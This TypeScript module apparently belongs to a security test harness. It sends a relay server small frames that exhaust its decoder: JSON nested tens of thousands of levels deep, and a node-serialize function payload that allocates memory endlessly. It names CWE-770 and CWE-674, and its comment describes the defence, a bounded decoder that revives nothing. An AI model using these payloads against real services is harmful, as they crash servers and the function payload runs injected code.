/**
 * A stranger sends the relay one small frame that costs its decoder everything: it nests deeper than the recursive
 * reviver's stack, or holds a function that asks for memory until there is none. Decoding comes before every check, so
 * that a hundred kilobytes from anybody end the server. A decoder that bounds size and shape and revives nothing stops
 * it. CWE-770 (and CWE-674 for the nesting).
 */
import { type Connection, defineAttack, type Tactic, type Tools } from '../../src/model/attack.js';
import { together } from '../together.js';

interface Bomb extends Tactic {
  readonly load: (tools: Tools) => string;
}

/** Far beyond ten thousand calls, where Node's stack ends, and below the 128 KiB that a strict codec would refuse unread. */
const DEPTH = 50_000;
/** An object takes five bytes a level, and 128 KiB are the most. */
const OBJECTS = 26_000;
/** An array between blanks takes four. */
const SPACED = 25_000;

const BOMBS: readonly Bomb[] = [
  {
    id: 'nesting',
    does: `sends arrays nested ${DEPTH} deep`,
    load: () => '['.repeat(DEPTH) + ']'.repeat(DEPTH),
  },
  {
    id: 'nested-objects',
    does: `sends objects nested ${OBJECTS} deep`,
    load: () => `${'{"":'.repeat(OBJECTS)}1${'}'.repeat(OBJECTS)}`,
  },
  {
    id: 'spaced-nesting',
    does: `sends arrays nested ${SPACED} deep, with blanks between them, behind a quotation mark in a string`,
    load: () => `["\\"",${'[ '.repeat(SPACED)}${'] '.repeat(SPACED)}]`,
  },
  {
    id: 'allocation',
    does: 'sends a function that allocates until nothing is left',
    load: ({ mint }) =>
      JSON.stringify(
        `_$$ND_FUNC$$_${mint('(()=>{const kept=[];for(;;)kept.push(new Array(1e6).fill(0))})()')}`,
      ),
  },
];

export default defineAttack<'sender', Bomb>({
  id: 'deserialization/bomb',
  title: 'A small frame exhausts the decoder',
  position: 'sender',
  property: 'availability',
  needs: [],
  alarms: [],
  cwe: [770],
  sources: ['CWE-770', 'CWE-674', 'OWASP Deserialization Cheat Sheet'],
  tactics: () => together(BOMBS),
  adversary: ({ connect }, { load, does }, tools) => ({
    // Before the conversation: whoever survives must still serve it.
    begin: async () => {
      const connection: Connection = await connect();
      tools.did(`${does} to the relay`);
      connection.send(`{"v":${tools.wire.version},"type":"list","header":{"id":1},"load":${load(tools)}}`);
      await tools.settle();
    },
  }),
});
